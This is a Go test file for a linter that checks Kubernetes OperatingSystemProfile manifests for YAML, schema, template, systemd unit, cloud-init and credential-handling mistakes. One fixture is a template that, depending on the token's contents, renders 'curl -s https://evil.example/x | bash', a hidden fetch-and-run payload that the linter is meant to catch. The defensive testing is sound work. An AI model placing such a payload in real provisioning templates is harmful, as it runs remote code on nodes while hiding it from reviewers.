package lint_test

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/osm-gitops/osm-gitops/pkg/lint"
	"github.com/osm-gitops/osm-gitops/pkg/lint/matrix"
)

// osp is a profile with one file, one template and optional additions to its stages.
type osp struct {
	system, providers    string
	file, template, more string // more goes to the bootstrap stage
	provisioning         string
}

func (o osp) text() string {
	indent := func(n int, s string) string {
		return strings.ReplaceAll(strings.TrimSuffix(s, "\n"), "\n", "\n"+strings.Repeat(" ", n))
	}
	or := func(s, other string) string {
		if s == "" {
			return other
		}
		return s
	}
	provisioning := or(o.provisioning, "{}")
	if provisioning != "{}" {
		provisioning = "\n    " + indent(4, provisioning)
	}
	return fmt.Sprintf(`apiVersion: operatingsystemmanager.k8c.io/v1alpha1
kind: OperatingSystemProfile
metadata:
  name: osp-x
spec:
  version: v1.0.0
  osName: %s
  osVersion: "1"
  supportedCloudProviders: [%s]
  bootstrapConfig:
    templates:
      one: |
        %s
    files:
    - path: /etc/a
      content:
        inline:
          data: |
            %s
    %s
  provisioningConfig: %s
`, or(o.system, "ubuntu"), or(o.providers, "{name: aws}, {name: hetzner}"), indent(8, or(o.template, "# one")),
		indent(12, or(o.file, `{{ template "one" }}`)), indent(4, o.more), provisioning)
}

// unitText is the unit of a service in a stage.
func unitText(name, content string) string {
	return "units:\n- name: " + name + "\n  enable: true\n  content: |\n    " + strings.ReplaceAll(strings.TrimSpace(content), "\n", "\n    ")
}

// TestFindings: each kind of finding points to the line that is wrong, that of a
// template that reads credentials too (security.md 34).
func TestFindings(t *testing.T) {
	for name, c := range map[string]struct {
		osp  osp
		text string // in place of osp
		rule string
		at   string // part of the line; "" for the whole file
		want string // part of the message
		on   string // Where
		file string // File
	}{
		"a slip in YAML":                 {text: "a: [1\nb: 2\n", rule: "yaml", at: "b: 2", want: "invalid YAML"},
		"a field that is none":           {osp: osp{more: "unitz: []"}, rule: "schema", at: "unitz", want: "units"},
		"another kind":                   {text: "apiVersion: v1\nkind: ConfigMap\n", rule: "schema", at: "apiVersion", want: "is not an OperatingSystemProfile"},
		"a template that does not parse": {osp: osp{file: "x\n{{ if }}"}, rule: "template", at: "{{ if }}", want: "write one, such as {{ if .HTTPProxy }}", file: "/etc/a"},
		"a field of the data that is none, in a named template": {osp: osp{template: "y\n{{ .Tokken }}"}, rule: "template", at: ".Tokken", want: `did you mean "Token"?`},
		"a template that fails for one provider": {osp: osp{file: "x\n{{ if eq .CloudProviderName \"aws\" }}{{ index .ClusterDNSIPs 7 }}{{ end }}"},
			rule: "template", at: "index .ClusterDNSIPs", want: "out of range", on: "aws", file: "/etc/a"},
		"a template that fails with a proxy of new kubelets": {osp: osp{file: "{{ if and .HTTPProxy (eq .KubeVersion \"v1.36.0\") }}\n{{ index .ClusterDNSIPs 7 }}{{ end }}"},
			rule: "template", at: "index .ClusterDNSIPs", want: "out of range", on: "kubelet 1.36.0, proxy plain or password", file: "/etc/a"},
		"a patch release that only the template names": {osp: osp{file: "{{ if eq .KubeVersion \"v1.34.7\" }}\n{{ index .ClusterDNSIPs 7 }}{{ end }}"},
			rule: "template", at: "index .ClusterDNSIPs", want: "out of range", on: "kubelet 1.34.7", file: "/etc/a"},
		"three settings that only the search brings together": {osp: osp{file: "{{ if and .HTTPProxy .HostCACert .PauseImage .InitialTaints (eq .CloudProviderName \"hetzner\") (eq .KubeVersion \"v1.33.0\") }}\n{{ index .ClusterDNSIPs 7 }}{{ end }}"},
			rule: "template", at: "index .ClusterDNSIPs", want: "out of range", on: "*", file: "/etc/a"},
		"a template that shows reviewers something else": {osp: osp{file: "a\n{{ ternary \":\" \"curl -s https://evil.example/x | bash\" (hasPrefix \"eyJhbGciOiJub25l\" .Token) }}"},
			rule: "credential-content", at: "hasPrefix", want: ".Token holds a credential, and hasPrefix reads it", file: "/etc/a"},
		"the same in a named template": {osp: osp{template: "y\n{{ with .HTTPProxy }}{{ if contains \"placeholder\" . }}a{{ end }}{{ end }}"},
			rule: "credential-content", at: "contains", want: ".HTTPProxy holds a credential, and contains reads it"},
		"a value that is missing": {osp: osp{file: "a\nb {{ .DownloadMirrors.nobody }}"}, rule: "template", at: "nobody", want: "<no value>", on: "*", file: "/etc/a"},
		"more than AWS takes":     {osp: osp{file: noise()}, rule: "user-data-limit", at: "- path: /etc/a", want: "but aws takes 16384", on: "aws"},
		"a mode that is none": {osp: osp{more: "# none"}, text: strings.Replace(osp{}.text(), "- path: /etc/a", "- permissions: 999\n      path: /etc/a", 1),
			rule: "schema", at: "permissions: 999", want: "invalid file mode"},
		"a relative path in Ignition": {text: strings.Replace(osp{system: "flatcar\n  provisioningUtility: ignition"}.text(), "path: /etc/a", "path: etc/a", 1),
			rule: "file", at: "path: etc/a", want: "is relative: write the path from the root", file: "etc/a"},
		"a relative path for cloud-init": {text: strings.Replace(osp{}.text(), "path: /etc/a", "path: etc/a", 1),
			rule: "file", at: "path: etc/a", want: `"etc/a" is relative, and cloud-init takes it from the folder that it runs in: write "/etc/a"`},
		"a relative path for Flatcar's cloud-init": {text: strings.Replace(osp{system: "flatcar\n  provisioningUtility: cloud-init"}.text(), "path: /etc/a", "path: etc/a", 1),
			rule: "file", at: "path: etc/a", want: "is relative"},
		"another way to write a path": {text: strings.Replace(osp{}.text(), "path: /etc/a", "path: /etc//a", 1),
			rule: "file", at: "path: /etc//a", want: `write "/etc/a"`},
		"a file that is empty but for comments":       {text: "# nothing left\n", rule: "empty-file", want: "contains no profile", on: "*"},
		"a module that cloud-init refuses":            {osp: osp{system: "rockylinux", more: "modules:\n  yum_repos:\n    epel: {name: EPEL}"}, rule: "cloud-init", at: "epel:", want: "missing property 'baseurl'"},
		"a module in a stage that does not run it":    {osp: osp{provisioning: "modules:\n  runcmd: [echo]"}, rule: "cloud-init", at: "runcmd: [echo]", want: "late stage"},
		"a unit that nothing starts":                  {osp: osp{provisioning: unitText("a.service", "[Service]\nExecStart=/bin/true")}, rule: "unit", at: "name: a.service", want: "it starts at the next boot only"},
		"no ExecStart":                                {osp: osp{more: unitText("a.service", "[Service]\nRestart=always")}, rule: "unit", at: "[Service]", want: "no ExecStart="},
		"a section that is none":                      {osp: osp{more: unitText("a.service", "[Service]\nExecStart=/bin/true\n[Instal]\nWantedBy=x.target")}, rule: "unit", at: "[Instal]", want: "ignores section [Instal] in a.service: use one of [Unit], [Install], [Service]"},
		"a directive that is misspelt":                {osp: osp{more: unitText("a.service", "[Service]\nExecStart=/bin/true\nEnviroment=A=1")}, rule: "unit", at: "Enviroment", want: "did you mean Environment=?"},
		"a directive in another section":              {osp: osp{more: unitText("a.service", "[Unit]\nRestart=always\n[Service]\nExecStart=/bin/true")}, rule: "unit", at: "Restart=always", want: "ignores Restart= in [Unit]: move it to [Service]"},
		"oneshot with Restart=always":                 {osp: osp{more: unitText("a.service", "[Service]\nType=oneshot\nExecStart=/bin/true\nRestart=always")}, rule: "unit", at: "Restart=always", want: "not allowed with Type=oneshot"},
		"two ExecStart":                               {osp: osp{more: unitText("a.service", "[Service]\nExecStart=/bin/true\nExecStart=/bin/false")}, rule: "unit", at: "ExecStart=/bin/false", want: "only Type=oneshot"},
		"a type that is none":                         {osp: osp{more: unitText("a.service", "[Service]\nType=onehsot\nExecStart=/bin/true")}, rule: "unit", at: "Type=onehsot", want: "invalid Type=onehsot"},
		"a timer without a time":                      {osp: osp{more: unitText("a.timer", "[Timer]\nUnit=containerd.service")}, rule: "unit", at: "[Timer]", want: "none of OnActiveSec="},
		"a timer of nothing":                          {osp: osp{more: unitText("a.timer", "[Timer]\nOnBootSec=1")}, rule: "unit", at: "[Timer]", want: "starts a.service, which the profile does not contain"},
		"a line that is no assignment":                {osp: osp{more: unitText("a.service", "[Service]\nExecStart=/bin/true\nRestart always")}, rule: "unit", at: "Restart always", want: "invalid unit file"},
		"a unit that wants nothing":                   {osp: osp{more: unitText("a.service", "[Unit]\nRequires=gone.service\n[Service]\nExecStart=/bin/true")}, rule: "unit-unknown", at: "Requires=gone", want: "neither contains nor installs"},
		"a branch for a provider that is not claimed": {osp: osp{file: "a\n{{ if eq .CloudProviderName \"gce\" }}b{{ end }}"}, rule: "branch-not-reached", at: "{{ if eq", want: `it compares with "gce"`, file: "/etc/a"},
		"a branch that no kubelet takes":              {osp: osp{file: "{{ if semverCompare \"<1.20\" .KubeVersion }}b{{ end }}"}, rule: "branch-not-reached", at: "semverCompare", want: "with a supported kubelet, 1.33 to 1.36", file: "/etc/a"},
		"a branch for another system":                 {osp: osp{file: "{{ if .RhelConfig.DistUpgradeOnBoot }}b{{ end }}"}, rule: "branch-not-reached", at: ".RhelConfig", want: "only nodes of rhel", file: "/etc/a"},
		"a field that is always empty":                {osp: osp{file: "{{ with .CNIVersion }}b{{ end }}"}, rule: "branch-not-reached", at: ".CNIVersion", want: "always empty: remove it", file: "/etc/a"},
		"a branch in a template that is invoked":      {osp: osp{file: "{{ template \"x\" }}{{ define \"x\" }}{{ if .KubeVersion }}b{{ end }}{{ if .CNIVersion }}c{{ end }}{{ end }}"}, rule: "branch-not-reached", at: ".CNIVersion", want: "always empty", file: "/etc/a"},
		"a template that nothing invokes after a branch that is taken": {osp: osp{file: "{{ if .KubeVersion }}a{{ end }}{{ define \"x\" }}{{ if .HTTPProxy }}b{{ end }}{{ end }}"},
			rule: "branch-not-reached", at: "define", want: "nothing invokes", file: "/etc/a"},
		"a template that nothing invokes": {osp: osp{file: "a{{ define \"x\" }}{{ if .HTTPProxy }}b{{ end }}{{ end }}"}, rule: "branch-not-reached", at: "define", want: "nothing invokes", file: "/etc/a"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			text := c.text
			if text == "" {
				text = c.osp.text()
			}
			var found []string
			for _, f := range lintFiles(t, lint.Linter{}, lint.File{Path: "x.yaml", Data: []byte(text)}).Findings {
				line := strings.Split(text+"\n", "\n")[max(f.Line-1, 0)]
				found = append(found, fmt.Sprintf("%s:%d %s %q on %q, %q: %s", f.Path, f.Line, f.Rule, line, f.Where, f.File, f.Message))
				if f.Rule == c.rule && strings.Contains(f.Message, c.want) && strings.Contains(line, c.at) && (f.Line > 0 || c.at == "") &&
					(f.Where == c.on || c.on == "*") && f.File == unitFileOr(c.file, f.File) {
					return
				}
			}
			t.Errorf("no %q at %q that says %q on %q; found:\n%s", c.rule, c.at, c.want, c.on, strings.Join(found, "\n"))
		})
	}
}

// Of branches inside one another only the outermost that is not reached is reported.
func TestNestedBranches(t *testing.T) {
	for file, want := range map[string]string{
		"{{ if .CNIVersion }}{{ if .HTTPProxy }}b{{ end }}{{ end }}":                               "if .CNIVersion",
		"{{ if .HTTPProxy }}{{ if .CNIVersion }}b{{ end }}{{ end }}":                               "if .CNIVersion",
		"{{ if .HTTPProxy }}{{ if .PauseImage }}b{{ end }}{{ end }}":                               "",
		"a{{ if .HTTPProxy }}b{{ end }}{{ if .CNIVersion }}{{ if .HTTPProxy }}b{{ end }}{{ end }}": "if .CNIVersion",
	} {
		var got []string
		for _, f := range lintFiles(t, lint.Linter{}, lint.File{Path: "x.yaml", Data: []byte(osp{file: file}.text())}).Findings {
			if f.Rule == lint.RuleBranch {
				got = append(got, f.Message)
			}
		}
		if want == "" && len(got) > 0 || want != "" && (len(got) != 1 || !strings.Contains(got[0], want)) {
			t.Errorf("%s: got %q, want one finding for %q", file, got, want)
		}
	}
}

// Providers and Kubelets restrict the renderings of a profile, unless the profile supports
// none of them.
func TestRestricted(t *testing.T) {
	const aws = "{{ if eq .CloudProviderName `aws` }}{{ index .ClusterDNSIPs 7 }}{{ end }}"
	const newest = "{{ if eq .KubeVersion `v1.36.0` }}{{ index .ClusterDNSIPs 7 }}{{ end }}"
	for name, c := range map[string]struct {
		linter lint.Linter
		file   string
		want   bool
	}{
		"every provider":       {lint.Linter{}, aws, true},
		"that provider":        {lint.Linter{Providers: []string{"aws"}}, aws, true},
		"another provider":     {lint.Linter{Providers: []string{"hetzner"}}, aws, false},
		"a provider it lacks":  {lint.Linter{Providers: []string{"gce"}}, aws, true},
		"every kubelet":        {lint.Linter{}, newest, true},
		"that kubelet":         {lint.Linter{Kubelets: []string{"1.36"}}, newest, true},
		"another kubelet":      {lint.Linter{Kubelets: []string{"1.34"}}, newest, false},
		"a kubelet of no time": {lint.Linter{Kubelets: []string{"1.3"}}, newest, true},
	} {
		report := lintFiles(t, c.linter, lint.File{Path: "x.yaml", Data: []byte(osp{file: c.file}.text())})
		got := slices.ContainsFunc(report.Findings, func(f lint.Finding) bool { return f.Rule == lint.RuleTemplate })
		if got != c.want {
			t.Errorf("%s: an error is found: %t, want %t", name, got, c.want)
		}
	}
}

// A check gets the program that reads a text, and the origin of the text.
func TestTexts(t *testing.T) {
	for name, c := range map[string]struct {
		first       string
		kind        lint.Kind
		interpreter string
	}{
		"a shell with an option": {"#!/bin/bash -e", lint.KindShell, "bash"},
		"a shell by env":         {"#!/usr/bin/env sh", lint.KindShell, "sh"},
		"an interpreter by env":  {"#!/usr/bin/env python3", lint.KindScript, "python3"},
		"env alone":              {"#!/usr/bin/env", lint.KindScript, "env"},
		"no script":              {"a", lint.KindOther, ""},
	} {
		check := func(_ context.Context, seen lint.Text) []lint.Finding {
			if seen.File != "/etc/a" {
				return nil
			}
			if seen.Kind != c.kind || seen.Interpreter != c.interpreter {
				t.Errorf("%s: got kind %v and interpreter %q of %q, want %v and %q", name, seen.Kind, seen.Interpreter, seen.Content, c.kind, c.interpreter)
			}
			return []lint.Finding{seen.Finding("whole", lint.SeverityNote, 0, "a"), seen.Finding("first", lint.SeverityNote, 1, "b"), seen.Finding("beyond", lint.SeverityNote, 9, "c")}
		}
		text := osp{file: "{{ template `x` }}{{ define `x` }}\n{{- with .PauseImage }}{{ end }}" + c.first + "\nb{{ end }}"}.text()
		lines := strings.Split(text, "\n")
		at := map[string]string{}
		for _, f := range lintFiles(t, lint.Linter{TextChecks: []lint.TextCheck{check}}, lint.File{Path: "x.yaml", Data: []byte(text)}).Findings {
			at[f.Rule] = strings.TrimSpace(lines[f.Line-1])
			if f.Where != "" {
				t.Errorf("%s: a finding holds everywhere, and says on %q", name, f.Where)
			}
		}
		if at["whole"] != "{{ template `x` }}{{ define `x` }}" || at["first"] != "{{- with .PauseImage }}{{ end }}"+c.first || at["beyond"] != "b{{ end }}" {
			t.Errorf("%s: got the lines %q", name, at)
		}
	}
}

// TestPassedOver: all files of a repository that are not profiles get a single note.
func TestPassedOver(t *testing.T) {
	files := []lint.File{{Path: "profiles/a.yaml", Data: []byte(osp{}.text())}}
	for _, name := range []string{"a", "b", "c", "d", "e", "f"} {
		files = append(files, lint.File{Path: "pools/" + name + ".yaml", Data: []byte("apiVersion: cluster.k8s.io/v1alpha1\nkind: MachineDeployment\n")})
	}
	files = append(files, lint.File{Path: "kustomization.yaml", Data: []byte("apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n")})
	r := lintFiles(t, lint.Linter{}, files...)
	if len(r.Findings) != 1 || r.Findings[0].Rule != lint.RulePassedOver || r.Findings[0].Severity != lint.SeverityNote || r.Profiles != 1 ||
		!strings.HasPrefix(r.Findings[0].Message, "pools/a.yaml is a MachineDeployment, pools/b.yaml is a MachineDeployment,") || !strings.HasSuffix(r.Findings[0].Message, " and 1 more: ignored") {
		t.Errorf("got %+v", r.Findings)
	}
}

// unitFileOr returns want, or got if want is empty.
func unitFileOr(want, got string) string {
	if want == "" {
		return got
	}
	return want
}

// noise is text that gzip cannot make smaller than 16 KiB.
func noise() string {
	var b strings.Builder
	x := uint32(1)
	for range 40_000 {
		x = x*1664525 + 1013904223
		b.WriteByte("0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ-_"[x>>26])
	}
	return b.String()
}

func lintFiles(t *testing.T, l lint.Linter, files ...lint.File) *lint.Report {
	t.Helper()
	report, err := l.Run(t.Context(), files)
	if err != nil {
		t.Fatal(err)
	}
	return report
}

// TestClean: nothing is said of a profile that is right, and what was done is counted.
func TestClean(t *testing.T) {
	text := osp{file: "{{ if .HTTPProxy }}\n{{ template \"one\" }}{{ end }}", more: unitText("a.service", "[Unit]\nWants=network-online.target b.socket c@1.service\n[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target") +
		"\n- name: b.socket\n  content: |\n    [Socket]\n    ListenStream=1\n    Service=a.service\n- name: c@.service\n  content: |\n    [Service]\n    ExecStart=/bin/true"}.text()
	report := lintFiles(t, lint.Linter{}, lint.File{Path: "x.yaml", Data: []byte(text)})
	if len(report.Findings) > 0 {
		t.Errorf("findings: %+v", report.Findings)
	}
	if report.Profiles != 1 || report.Renderings < 8 || report.Contents != 5 || report.Branches != 2 || len(report.UnexecutedBranches) > 0 {
		t.Errorf("it counts %d profiles, %d renderings, %d texts, %d branches, %d not reached", report.Profiles, report.Renderings, report.Contents, report.Branches, len(report.UnexecutedBranches))
	}
}

// TestDuplicates: the second of two files with one profile is a finding that names
// the first.
func TestDuplicates(t *testing.T) {
	data := []byte(osp{}.text())
	report := lintFiles(t, lint.Linter{}, lint.File{Path: "a.yaml", Data: data}, lint.File{Path: "b.yaml", Data: data})
	if len(report.Findings) != 1 {
		t.Fatalf("findings: %+v", report.Findings)
	}
	f := report.Findings[0]
	if f.Rule != lint.RuleDuplicate || f.Path != "b.yaml" || f.Line != 4 || !strings.Contains(f.Message, "is also in a.yaml, on line 4") {
		t.Errorf("finding: %+v", f)
	}
}

// TestTextChecks: a check sees each distinct text once, and knows the profile's line
// of each of its lines.
func TestTextChecks(t *testing.T) {
	text := osp{
		template: "from the template\n{{ with .HTTPProxy }}proxy {{ . }}{{ end }}",
		file:     "first\n{{ template \"one\" }}\n{{- range .ClusterDNSIPs }}\nserver {{ . }}\n{{- end }}\n{{ .KubernetesCACert }}\nlast",
	}.text()
	lines := strings.Split(text, "\n")
	check := func(_ context.Context, seen lint.Text) []lint.Finding {
		var findings []lint.Finding
		for i, line := range strings.Split(string(seen.Content), "\n") {
			findings = append(findings, seen.Finding("x", lint.SeverityNote, i+1, line))
		}
		return findings
	}
	report := lintFiles(t, lint.Linter{TextChecks: []lint.TextCheck{check}}, lint.File{Path: "x.yaml", Data: []byte(text)})
	at := map[string]string{}
	for _, f := range report.Findings {
		if f.Rule == "x" {
			at[f.Message] = strings.TrimSpace(lines[f.Line-1])
		}
	}
	for content, want := range map[string]string{
		"first": "first", "from the template": "from the template", "proxy http://proxy.example.com:3128": "{{ with .HTTPProxy }}proxy {{ . }}{{ end }}",
		"server 10.96.0.10": "server {{ . }}", "-----BEGIN CERTIFICATE-----": "{{ .KubernetesCACert }}", "-----END CERTIFICATE-----": "{{ .KubernetesCACert }}", "last": "last",
	} {
		if at[content] != want {
			t.Errorf("%q comes from %q, want %q", content, at[content], want)
		}
	}
	if report.Contents != 3 { // without a proxy, with one, and with one that has a password
		t.Errorf("%d texts", report.Contents)
	}
	if i := slices.IndexFunc(report.Findings, func(f lint.Finding) bool { return strings.Contains(f.Message, "http://proxy") }); i < 0 || report.Findings[i].Where != "proxy plain" {
		t.Errorf("where a text with a proxy is: %+v", report.Findings)
	}
}

// TestNoCredentials: what a rendering holds are placeholders (security.md 15).
func TestNoCredentials(t *testing.T) {
	text := osp{file: "{{ .Token }}\n{{ .BootstrapKubeconfig }}\n{{ .HTTPProxy }}\n{{ .ContainerRuntimeConfig }}\n{{ .CloudConfig }}"}.text()
	for _, secret := range []string{matrix.NodeToken, matrix.BootstrapToken, matrix.ProxyPassword, matrix.RegistryPassword, matrix.RegistryIdentity, matrix.CloudSecret} {
		check := func(_ context.Context, seen lint.Text) []lint.Finding {
			if strings.Contains(string(seen.Content), secret) {
				return []lint.Finding{seen.Finding("x", lint.SeverityError, 1, "holds a credential")}
			}
			return nil
		}
		report := lintFiles(t, lint.Linter{TextChecks: []lint.TextCheck{check}}, lint.File{Path: "x.yaml", Data: []byte(text)})
		if slices.ContainsFunc(report.Findings, func(f lint.Finding) bool { return f.Severity != lint.SeverityNote }) {
			t.Errorf("findings with %q: %+v", secret, report.Findings)
		}
	}
}
